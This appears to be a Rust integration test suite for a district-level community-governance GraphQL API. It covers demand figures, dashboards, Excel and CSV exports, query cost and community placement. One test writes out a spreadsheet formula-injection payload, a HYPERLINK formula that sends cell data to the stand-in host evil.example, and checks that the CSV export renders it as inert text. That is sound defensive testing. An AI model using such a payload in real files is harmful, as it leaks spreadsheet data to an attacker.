//! District figures through the API: a write is in the district's figures within seconds
//! (the worker is woken by the write's commit, not only by its sweep).

use std::time::{Duration, Instant};

use serde_json::json;

use crate::TestApp;

#[tokio::test]
async fn a_demand_reaches_the_district_figures_within_seconds() {
    let app = TestApp::spawn().await;
    let root = app.two_communities().await;
    let worker = app
        .member(&root, "alpha-grid", "GRID_WORKER", "alpha")
        .await;
    let received = || async {
        let today = (chrono::Utc::now() + chrono::Duration::hours(8))
            .date_naive()
            .to_string();
        let d = app
            .ok(
                Some(&root),
                None,
                "query($d: Date!) { districtFigures(districtCode: \"510109\", from: $d, to: $d) { figure value } }",
                json!({"d": today}),
            )
            .await;
        d["districtFigures"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["figure"] == "partners.demands_received")
            .map_or(0, |f| f["value"].as_i64().unwrap())
    };
    for expected in 1..=3 {
        app.ok(
            Some(&worker),
            Some("alpha"),
            "mutation { submitDemand(input: {title: \"路灯不亮\", category: \"设施维修\"}) { id } }",
            json!({}),
        )
        .await;
        let started = Instant::now();
        loop {
            let n = received().await;
            if n == expected {
                break;
            }
            assert!(
                started.elapsed() < Duration::from_secs(5),
                "demand {expected} not in the district's figures after 5 s (seen {n})"
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
}

/// The dashboard a district officer opens, filtered and ranked, and the file they send up the
/// chain — through the gateway, downloaded from its link and opened.
#[tokio::test]
async fn a_district_dashboard_and_its_excel_download() {
    let app = TestApp::spawn().await;
    let root = app.two_communities().await;
    let alpha = app
        .member(&root, "alpha-grid", "GRID_WORKER", "alpha")
        .await;
    let beta = app.member(&root, "beta-grid", "GRID_WORKER", "beta").await;
    for (token, slug) in [(&alpha, "alpha"), (&alpha, "alpha"), (&beta, "beta")] {
        app.ok(
            Some(token),
            Some(slug),
            "mutation { submitDemand(input: {title: \"楼道堆物\", category: \"环境卫生\"}) { id } }",
            json!({}),
        )
        .await;
    }
    let today = (chrono::Utc::now() + chrono::Duration::hours(8))
        .date_naive()
        .to_string();
    let vars = json!({"d": today});
    const DASHBOARD: &str = "query($d: Date!, $f: DashboardFilter) {
        districtDashboard(districtCode: \"510109\", from: $d, to: $d, filter: $f) {
          communities { total active }
          figures { figure family value previous }
          rates { name value }
          series(figure: \"partners.demands_received\", by: DAY) { start value }
          ranking(figure: \"partners.demands_received\") { rank slug streetCode value } } }";
    let received = |d: &serde_json::Value| {
        d["districtDashboard"]["figures"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["figure"] == "partners.demands_received")
            .unwrap()["value"]
            .as_i64()
            .unwrap()
    };
    let started = Instant::now();
    let d = loop {
        let d = app.ok(Some(&root), None, DASHBOARD, vars.clone()).await;
        // The worker folds each community's events in its own turn, and a dashboard's fields
        // are read side by side: wait until every field has seen all three.
        let dash = &d["districtDashboard"];
        if received(&d) == 3
            && dash["series"][0]["value"] == 3
            && dash["ranking"][0]["value"] == 2
            && dash["ranking"][1]["value"] == 1
        {
            break d;
        }
        assert!(started.elapsed() < Duration::from_secs(10), "{d}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let dash = &d["districtDashboard"];
    assert_eq!(dash["communities"], json!({"total": 2, "active": 2}));
    assert_eq!(dash["series"], json!([{"start": today, "value": 3}]));
    assert_eq!(
        dash["ranking"],
        json!([
            {"rank": 1, "slug": "alpha", "streetCode": "510109", "value": 2},
            {"rank": 2, "slug": "beta", "streetCode": "510109", "value": 1}
        ])
    );
    let resolution = dash["rates"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == "resolution_rate")
        .cloned();
    assert_eq!(resolution.map(|r| r["value"].clone()), Some(json!(0.0)));

    // Filters: a kind no community has, a street that is not in the district.
    let none = app
        .ok(
            Some(&root),
            None,
            DASHBOARD,
            json!({"d": today, "f": {"kinds": ["MIXED"]}}),
        )
        .await;
    assert_eq!(received(&none), 0);
    assert_eq!(none["districtDashboard"]["communities"]["total"], 0);
    let r = app
        .gql(
            Some(&root),
            None,
            DASHBOARD,
            json!({"d": today, "f": {"street": "999999"}}),
        )
        .await;
    assert_eq!(crate::code(&r), "NOT_FOUND", "{r}");
    // A community's grid worker is no district officer.
    let r = app.gql(Some(&alpha), None, DASHBOARD, vars.clone()).await;
    assert_eq!(crate::code(&r), "FORBIDDEN", "{r}");

    // The Excel file: a link, downloaded and opened; then the same as CSV.
    let export = |format: &'static str| {
        let app = &app;
        let root = &root;
        let vars = vars.clone();
        async move {
            let d = app
                .ok(
                    Some(root),
                    None,
                    &format!(
                        "mutation($d: Date!) {{ exportDistrictFigures(districtCode: \"510109\", from: $d, to: $d, format: {format}) {{ filename contentType url bytes }} }}"
                    ),
                    vars,
                )
                .await;
            let e = d["exportDistrictFigures"].clone();
            let body = app
                .http
                .get(e["url"].as_str().unwrap())
                .send()
                .await
                .unwrap()
                .bytes()
                .await
                .unwrap();
            assert_eq!(body.len() as i64, e["bytes"].as_i64().unwrap());
            (e, body)
        }
    };
    let (e, xlsx) = export("XLSX").await;
    assert!(e["filename"].as_str().unwrap().ends_with(".xlsx"), "{e}");
    use calamine::{Reader, Xlsx};
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx.to_vec())).unwrap();
    assert_eq!(book.sheet_names()[0], "汇总");
    let sheet = book.worksheet_range("民生诉求").unwrap();
    let header: Vec<String> = sheet
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    let col = header.iter().position(|h| h == "受理诉求（件）").unwrap();
    let alpha_row = sheet.rows().find(|r| r[2] == "alpha").unwrap();
    assert_eq!(alpha_row[col].to_string(), "2");
    let (e, csv) = export("CSV").await;
    assert_eq!(
        e["contentType"].as_str().unwrap(),
        "text/csv; charset=utf-8"
    );
    let text = String::from_utf8(csv.to_vec()).unwrap();
    assert!(text.starts_with('\u{feff}'), "a byte-order mark for Excel");
    assert_eq!(text.lines().count(), 3, "a header and a row per community");
}

/// A dashboard costs the statements its selection needs: nothing for the period's bounds, one
/// read of the totals however many of `figures` and `rates` are asked, one more per field
/// (cadence two: the district's own threshold, then the count).
#[tokio::test]
async fn a_dashboard_costs_the_statements_its_selection_needs() {
    let app = TestApp::spawn_counting_sql().await;
    let root = app.two_communities().await;
    let cost = |selection: &'static str| {
        let (app, root) = (&app, &root);
        async move {
            let q = format!(
                "{{ districtDashboard(districtCode: \"510109\", from: \"2026-01-01\", to: \"2026-12-31\") {{ {selection} }} }}"
            );
            // once to warm the caches (the principal, the district), then counted
            app.ok(Some(root), None, &q, json!({})).await;
            let before = app.counter("linli_sql_statements_total").await;
            app.ok(Some(root), None, &q, json!({})).await;
            app.counter("linli_sql_statements_total").await - before
        }
    };
    let bounds = cost("from to previousFrom previousTo").await;
    let figures = cost("from figures { value }").await;
    let both = cost("from figures { value } rates { value }").await;
    let all = cost("from figures { value } rates { value } communities { total } partnerOrganisations medianResolutionHours { value } cadence { met } series(figure: \"courses.sessions\") { value } ranking(figure: \"courses.sessions\") { value }").await;
    assert_eq!(
        (figures - bounds, both - bounds, all - bounds),
        (1, 1, 9),
        "bounds {bounds}, figures {figures}, figures and rates {both}, everything {all}"
    );
}

/// A community named like a formula is text in the officer's CSV: the cell cannot run when
/// the file is opened in Excel or WPS.
#[tokio::test]
async fn a_formula_in_a_name_is_text_in_the_csv() {
    let app = TestApp::spawn().await;
    let root = app.two_communities().await;
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";
    app.ok(
        Some(&root),
        None,
        "mutation($n: String!) { onboardCommunity(input: {districtCode: \"510109\", slug: \"gamma\", name: $n, kind: OLD_COURTYARD}) { created } }",
        json!({"n": hostile}),
    )
    .await;
    let d = app
        .ok(
            Some(&root),
            None,
            "mutation { exportDistrictFigures(districtCode: \"510109\", from: \"2026-01-01\", to: \"2026-01-31\", format: CSV) { url } }",
            json!({}),
        )
        .await;
    let body = app
        .http
        .get(d["exportDistrictFigures"]["url"].as_str().unwrap())
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[1].to_string())
        .collect();
    assert!(names.contains(&format!("'{hostile}")), "{names:?}");
    assert!(
        names.iter().all(|n| !n.starts_with(['=', '+', '-', '@'])),
        "{names:?}"
    );
}

/// Placing a community in a street (and on into another) moves its figures: the streets it
/// leaves lose them, the one it joins gains them, the district keeps them; only an admin
/// over both places may do it, and only within the district.
#[tokio::test]
async fn a_community_placed_in_a_street_takes_its_figures_along() {
    let app = TestApp::spawn().await;
    let root = app.two_communities().await;
    for (code, name) in [("510109001", "东街道"), ("510109002", "西街道")] {
        app.ok(
            Some(&root),
            None,
            "mutation($c: String!, $n: String!) { createDistrict(input: {code: $c, name: $n, parentCode: \"510109\"}) { id } }",
            json!({"c": code, "n": name}),
        )
        .await;
    }
    app.ok(
        Some(&root),
        None,
        r#"mutation { createDistrict(input: {code: "999999", name: "别的区"}) { id } }"#,
        json!({}),
    )
    .await;
    let worker = app
        .member(&root, "alpha-grid", "GRID_WORKER", "alpha")
        .await;
    for _ in 0..2 {
        app.ok(
            Some(&worker),
            Some("alpha"),
            "mutation { submitDemand(input: {title: \"路灯不亮\", category: \"设施维修\"}) { id } }",
            json!({}),
        )
        .await;
    }
    let received = |code: &'static str| {
        let app = &app;
        let root = &root;
        async move {
            let today = (chrono::Utc::now() + chrono::Duration::hours(8))
                .date_naive()
                .to_string();
            let d = app
                .ok(
                    Some(root),
                    None,
                    "query($c: String!, $d: Date!) { districtFigures(districtCode: $c, from: $d, to: $d) { figure value } }",
                    json!({"c": code, "d": today}),
                )
                .await;
            d["districtFigures"]
                .as_array()
                .unwrap()
                .iter()
                .find(|f| f["figure"] == "partners.demands_received")
                .map_or(0, |f| f["value"].as_i64().unwrap())
        }
    };
    let started = Instant::now();
    while received("510109").await < 2 {
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "the demands never reached the district"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    const PLACE: &str = "mutation($s: String!, $c: String!) { placeCommunity(slug: $s, districtCode: $c) { slug } }";
    let place =
        |code: &'static str| app.ok(Some(&root), None, PLACE, json!({"s": "alpha", "c": code}));
    let figures = || async {
        (
            received("510109").await,
            received("510109001").await,
            received("510109002").await,
        )
    };
    place("510109001").await;
    assert_eq!(figures().await, (2, 2, 0));
    place("510109002").await;
    assert_eq!(figures().await, (2, 0, 2));
    // Placing it where it is changes nothing; a demand after the move counts in its new street.
    place("510109002").await;
    app.ok(
        Some(&worker),
        Some("alpha"),
        "mutation { submitDemand(input: {title: \"井盖松动\", category: \"设施维修\"}) { id } }",
        json!({}),
    )
    .await;
    let started = Instant::now();
    while figures().await != (3, 0, 3) {
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "{:?}",
            figures().await
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let tree = app
        .ok(
            Some(&root),
            None,
            r#"{ district(code: "510109002") { communities { slug } } }"#,
            json!({}),
        )
        .await;
    assert_eq!(tree["district"]["communities"], json!([{"slug": "alpha"}]));

    // Another district's tree is refused; a street's officer may not take a community out of it.
    let out = app
        .gql(
            Some(&root),
            None,
            PLACE,
            json!({"s": "alpha", "c": "999999"}),
        )
        .await;
    assert_eq!(
        out["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
        "{out}"
    );
    let west = app
        .district_member(&root, "west-officer", "DISTRICT_ADMIN", "510109002")
        .await;
    let refused = app
        .gql(
            Some(&west),
            None,
            PLACE,
            json!({"s": "alpha", "c": "510109001"}),
        )
        .await;
    assert_eq!(
        refused["errors"][0]["extensions"]["code"], "FORBIDDEN",
        "{refused}"
    );
    assert_eq!(figures().await, (3, 0, 3));
}
